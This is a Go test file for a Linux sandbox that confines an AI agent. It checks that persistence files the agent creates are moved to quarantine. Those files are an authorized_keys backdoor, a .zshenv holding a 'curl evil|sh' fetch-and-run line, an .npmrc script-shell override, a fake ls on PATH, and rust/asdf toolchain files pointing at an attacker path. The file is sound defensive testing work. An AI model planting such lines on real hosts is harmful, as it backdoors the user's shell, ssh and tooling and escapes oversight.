//go:build linux

package tests

// Protected names absent at start (package fsrules' Plan.Absent: the top of
// each writable tree, each home inside one with its home-only names, under
// existing parents) are watched by the supervisor's sentinel: what the agent
// creates there leaves the tree into the run's quarantine (issue 10, class 3).

import (
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestPersistAbsentQuarantined: with the home writable (asked for), the agent
// creates ~/.ssh/authorized_keys where ~/.ssh was absent, a new ~/.zshenv, a
// ~/.npmrc and a program in ~/.local/bin: none stays on the host (the user's
// sshd, shells, npm and PATH would load them), each is in the quarantine with
// its content, named once. A new .env in a project (the agent's own work) is
// left alone and not named.
func TestPersistAbsentQuarantined(t *testing.T) {
	home, env := pfHome(t)
	state := strings.TrimPrefix(env[1], "XDG_STATE_HOME=")
	r := run(t, runOpts{dir: home, env: env}, "--allow-writable-home", "--dry-run", "--", "true")
	mustCode(t, r, 0)
	for _, p := range []string{".ssh", ".zshenv", ".npmrc", ".local/bin"} {
		if !strings.Contains(r.stdout, "watch      "+filepath.Join(home, p)+" ") {
			t.Errorf("--dry-run has no watch line for %s:\n%s", p, r.stdout)
		}
	}
	// Each step on its own (";"): one the sentinel makes fail (a write into
	// .ssh/ after .ssh/ was moved out) must not stop the others.
	r = run(t, runOpts{dir: home, env: env}, "--allow-writable-home", "--", "/bin/sh", "-c",
		`mkdir .ssh; echo 'ssh-ed25519 AAAA evil' > .ssh/authorized_keys; echo 'curl evil|sh' > .zshenv; `+
			`echo 'script-shell=/tmp/evil' > .npmrc; mkdir -p .local/bin; printf '#!/bin/sh\necho evil\n' > .local/bin/ls; echo done`)
	mustCode(t, r, 0)
	if !strings.Contains(r.stdout, "done") {
		t.Fatalf("the agent's script did not run (the test is broken):\n%s%s", r.stdout, r.stderr)
	}
	for _, p := range []string{".ssh", ".zshenv", ".npmrc", ".local/bin"} {
		full := filepath.Join(home, p)
		if _, err := os.Lstat(full); !errors.Is(err, fs.ErrNotExist) {
			b, _ := os.ReadFile(full)
			t.Errorf("%s, absent at start and created by the agent, is on the host (%v) %q:\n%s", p, err, b, r.stderr)
		}
		if n := strings.Count(r.stderr, "moved "+full+" out of the tree"); n != 1 {
			t.Errorf("%s named %d times as moved, want once:\n%s", p, n, r.stderr)
		}
	}
	if strings.Contains(r.stderr, "created inside the sandbox") {
		t.Errorf("a quarantined path is also reported as left on the host:\n%s", r.stderr)
	}
	ents, _ := os.ReadDir(home)
	for _, e := range ents {
		if e.Name() != ".local" {
			t.Errorf("the agent's %s is left in the home", e.Name())
		}
	}
	// Nothing is lost: the quarantine holds what the agent wrote, and its
	// manifest names each path.
	var stored []string
	quarantine := filepath.Join(state, "jail", "quarantine")
	filepath.WalkDir(quarantine, func(p string, d fs.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			if b, err := os.ReadFile(p); err == nil {
				stored = append(stored, string(b))
			}
		}
		return nil
	})
	all := strings.Join(stored, "\n")
	for _, want := range []string{"curl evil|sh", "script-shell=/tmp/evil", `"path":"` + filepath.Join(home, ".ssh") + `"`} {
		if !strings.Contains(all, want) {
			t.Errorf("the quarantine %s lacks %q:\n%s", quarantine, want, all)
		}
	}

	// A secret-named file outside every home is the project's own.
	ws := workspace(t)
	r = run(t, runOpts{dir: ws, env: env}, "--", "/bin/sh", "-c", `echo A=1 > .env && echo done`)
	mustCode(t, r, 0)
	if b, err := os.ReadFile(filepath.Join(ws, ".env")); err != nil || string(b) != "A=1\n" {
		t.Errorf("a new .env in a project was taken away (%v, %q):\n%s", err, b, r.stderr)
	}
	if strings.Contains(r.stderr, filepath.Join(ws, ".env")) {
		t.Errorf("a new .env in a project is named:\n%s", r.stderr)
	}
}

// TestPersistToolchainFiles: rustup runs the toolchain a project's
// rust-toolchain.toml (or rust-toolchain) names by path, asdf and mise the
// `path:` version of a .tool-versions: the host's `rustc --version` in that
// directory (a shell prompt's, starship's rust module, at every cd; an
// editor's rust-analyzer on open) would run what the agent put there. An
// existing one, at any depth, stays as on the host; one the agent creates
// leaves the tree into the quarantine: at once at the top of the
// workspace (watched), when the sandbox ends deeper (the exit check's
// walk), also with --allow-git-config (git trusted, names still judged).
// Control: with --no-default-deny, or the tree lifted, the writes land.
func TestPersistToolchainFiles(t *testing.T) {
	_, env := pfHome(t)
	names := []string{"rust-toolchain.toml", "rust-toolchain", ".tool-versions", "sub/rust-toolchain.toml"}
	evil := map[string]string{
		"rust-toolchain.toml":     "[toolchain]\npath = \"/ws/evil\"\n",
		"rust-toolchain":          "[toolchain]\npath = \"/ws/evil\"\n",
		".tool-versions":          "nodejs path:/ws/evil\n",
		"sub/rust-toolchain.toml": "[toolchain]\npath = \"/ws/evil\"\n",
	}
	script := `for f in "$@"; do mkdir -p "$(dirname "$f")"; printf '%s' "$(cat "$f.evil")" > "$f"; done 2>/dev/null; echo done`
	setup := func(t *testing.T, existing bool) (string, []string) {
		ws := workspace(t)
		args := []string{"--", "/bin/sh", "-c", script, "sh"}
		for _, n := range names {
			os.MkdirAll(filepath.Dir(filepath.Join(ws, n)), 0o755)
			writeFile(t, filepath.Join(ws, n+".evil"), evil[n])
			if existing {
				writeFile(t, filepath.Join(ws, n), "[toolchain]\nchannel = \"stable\"\n")
			}
			args = append(args, n)
		}
		return ws, args
	}
	t.Run("existing", func(t *testing.T) {
		ws, args := setup(t, true)
		r := run(t, runOpts{dir: ws, env: env}, args...)
		mustCode(t, r, 0)
		for _, n := range names {
			if b, _ := os.ReadFile(filepath.Join(ws, n)); string(b) != "[toolchain]\nchannel = \"stable\"\n" {
				t.Errorf("%s was rewritten from inside: %q", n, b)
			}
		}
	})
	for _, flags := range [][]string{nil, {"--allow-git-config"}} {
		t.Run("created"+strings.Join(flags, ""), func(t *testing.T) {
			ws, args := setup(t, false)
			r := run(t, runOpts{dir: ws, env: env}, append(flags, args...)...)
			mustCode(t, r, 0)
			if !strings.Contains(r.stdout, "done") {
				t.Fatalf("the agent's script did not run (the test is broken):\n%s%s", r.stdout, r.stderr)
			}
			for _, n := range names {
				full := filepath.Join(ws, n)
				if b, err := os.ReadFile(full); err == nil {
					t.Errorf("%s, created by the agent, is on the host: %q\n%s", n, b, r.stderr)
				}
				if !strings.Contains(r.stderr, "moved "+full+" out of the tree") {
					t.Errorf("%s not named as moved:\n%s", n, r.stderr)
				}
			}
		})
	}
	for _, flags := range [][]string{{"--no-default-deny"}, {"--no-default-deny-at", "sub"}} {
		t.Run("control"+strings.Join(flags, ""), func(t *testing.T) {
			ws, args := setup(t, false)
			r := run(t, runOpts{dir: ws, env: env}, append(flags, args...)...)
			mustCode(t, r, 0)
			for _, n := range names {
				if len(flags) > 1 && !strings.HasPrefix(n, "sub/") {
					continue
				}
				if b, _ := os.ReadFile(filepath.Join(ws, n)); string(b) != strings.TrimSuffix(evil[n], "\n") {
					t.Errorf("control %v: the agent's %s did not land: %q (the test cannot tell)\n%s", flags, n, b, r.stderr)
				}
			}
		})
	}
}
